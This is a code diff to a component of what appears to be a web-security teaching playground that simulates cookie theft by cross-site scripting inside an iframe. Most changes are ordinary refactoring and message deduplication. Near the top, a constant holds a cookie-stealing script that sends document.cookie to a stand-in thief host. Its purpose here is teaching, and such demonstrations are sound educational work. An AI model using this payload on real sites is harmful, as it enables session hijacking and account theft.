@@ -11,7 +11,9 @@ import { type LessonContext, lessonContext } from './lesson-context.ts'
 
 /** Runs as it stands in the attacked page. The address is a thief's. */
 const SCRIPT = `new Image().src =
-  'https://thief.example/?' + encodeURIComponent(document.cookie)`
+  'https://thief.example/?' +
+  encodeURIComponent(
+    document.cookie)`
 
 /** What a page in the frame says to the playground. */
 type FrameMessage = { kind: 'ready' } | { kind: 'left'; url: string } | { kind: 'submitted' }
@@ -87,6 +89,9 @@ export class AttackView extends LitElement {
   @state() private chosen = ''
   /** What the script took with it; undefined before it ran. */
   @state() private read: string | undefined
+
+  /** What the frame was told to show last. */
+  private shown = ''
 
   @query('iframe') private frame!: HTMLIFrameElement | null
 
@@ -204,15 +209,19 @@ export class AttackView extends LitElement {
     this.read = undefined
   }
 
-  /** Puts the page into the frame, with the cookies a script of it may read. */
+  /** Puts the page into the frame, with the cookies a script of it may read, unless it is there already. */
   private show() {
     if (!this.context || !this.frame) return
     const readable = this.cookies.filter(({ httpOnly }) => !httpOnly)
-    this.tell({
+    const message = {
       kind: 'show',
       page: this.task.play === 'script' ? this.pageOfClient : this.pageOfOtherSite,
       cookies: readable.map(({ name, value }) => `${name}=${value}`).join('; '),
-    })
+    }
+    const written = JSON.stringify(message)
+    if (written === this.shown) return
+    this.shown = written
+    this.tell(message)
   }
 
   /** The page that the login there was answered with. */
@@ -238,6 +247,7 @@ export class AttackView extends LitElement {
     if (source === null || source !== this.frame?.contentWindow || !isFrameMessage(data)) return
     switch (data.kind) {
       case 'ready':
+        this.shown = ''
         return this.show()
       case 'left':
         return this.onLeft(data.url)
